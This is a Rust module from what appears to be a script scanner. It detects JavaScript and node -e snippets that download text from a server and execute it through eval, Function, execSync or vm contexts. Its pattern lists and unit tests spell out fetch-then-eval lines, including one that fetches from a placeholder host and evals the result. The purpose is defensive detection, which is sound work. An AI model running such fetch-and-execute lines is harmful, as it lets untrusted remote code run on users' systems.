//! Programs in JavaScript that run what a server sends.

use super::runs::is_interpreter;
use crate::Unit;

/// Calls that get something from a server.
const FETCHES: [&str; 7] =
    ["fetch(", "axios(", "axios.get(", "got(", "http.get(", "https.get(", "https.request("];

/// Words that run a text as a program.
const RUNS: [&str; 8] = [
    "Function",
    "eval",
    "execSync",
    "import(`data:",
    "import('data:",
    "runInContext",
    "runInNewContext",
    "runInThisContext",
];

/// The lines of such programs: `node -e`, a here-document, a file.
pub(super) fn executed(unit: &Unit) -> Vec<usize> {
    let mut found = Vec::new();
    for shell in unit.everywhere().filter(|shell| shell.file.is_none()) {
        for command in &shell.script.commands {
            let argv = command.argv();
            let Some((program, rest)) = argv.split_first() else { continue };
            if !is_interpreter(program) && !["bun", "deno", "tsx"].contains(program) {
                continue;
            }
            let heredocs = command.heredocs.iter().filter_map(|at| shell.script.heredocs.get(*at));
            let given = rest.iter().map(|word| (command.line, *word));
            let texts = given.chain(heredocs.map(|it| (it.line, it.text.as_str())));
            let texts = texts.filter(|(_, text)| runs_fetched(text));
            found.extend(texts.map(|(line, _)| line + shell.offset));
        }
    }
    let scripts = unit
        .files
        .iter()
        .filter(|file| [".cjs", ".js", ".mjs", ".ts"].iter().any(|end| file.path.ends_with(end)));
    found.extend(scripts.filter(|file| runs_fetched(&file.text)).map(|file| file.line));
    found
}

/// Whether a program gets a text from a server and hands it to what runs texts.
fn runs_fetched(text: &str) -> bool {
    let code = || text.lines().map(str::trim).filter(|line| !line.starts_with("//"));
    let whole = |line: &str, word: &str| {
        line.match_indices(word).any(|(at, _)| {
            let own = |c: char| !c.is_alphanumeric() && !"_.'\"`$".contains(c);
            let method = word.starts_with("run") || word.starts_with("exec");
            let before = line[..at].chars().next_back();
            let after = line[at + word.len()..].trim_start().chars().next();
            let called = word.contains('(') || after.is_some_and(|c| "(),".contains(c));
            called && before.is_none_or(|c| own(c) || (method && c == '.'))
        })
    };
    // A program that a fixed text names is not what the server sent.
    let fixed =
        |line: &str| ["execSync('", "execSync(\"", "execSync(`"].iter().any(|it| line.contains(it));
    let fetches = code().any(|line| FETCHES.iter().any(|call| line.contains(call)));
    fetches && code().any(|line| !fixed(line) && RUNS.iter().any(|word| whole(line, word)))
}

#[cfg(test)]
mod tests {
    use super::runs_fetched;

    #[test]
    fn a_program_that_runs_what_it_fetches_is_found() {
        for text in [
            "fetch('https://a.example.org/a.js').then(r => r.text()).then(eval)",
            "const code = await (await fetch(url)).text();\neval(code);",
            "const code = await (await fetch(url)).text();\nnew Function(code)();",
            "https.get(url, r => r.on('data', d => vm.runInThisContext(d)))",
            "const { data } = await axios.get(url);\nrequire('child_process').execSync(data);",
        ] {
            assert!(runs_fetched(text), "{text}");
        }
        for text in [
            "fetch('http://127.0.0.1/healthz').then(r => process.exit(r.ok ? 0 : 1))",
            "const rules = await (await fetch(url)).json();\nevaluate(rules);",
            "const rules = await (await fetch(url)).json();\nawait page.evaluate(rules);",
            "await fetch(url);\nexecSync('systemctl is-active shop');",
            "// eval(code)\nawait fetch(url);",
            "eval(code);",
        ] {
            assert!(!runs_fetched(text), "{text}");
        }
    }
}
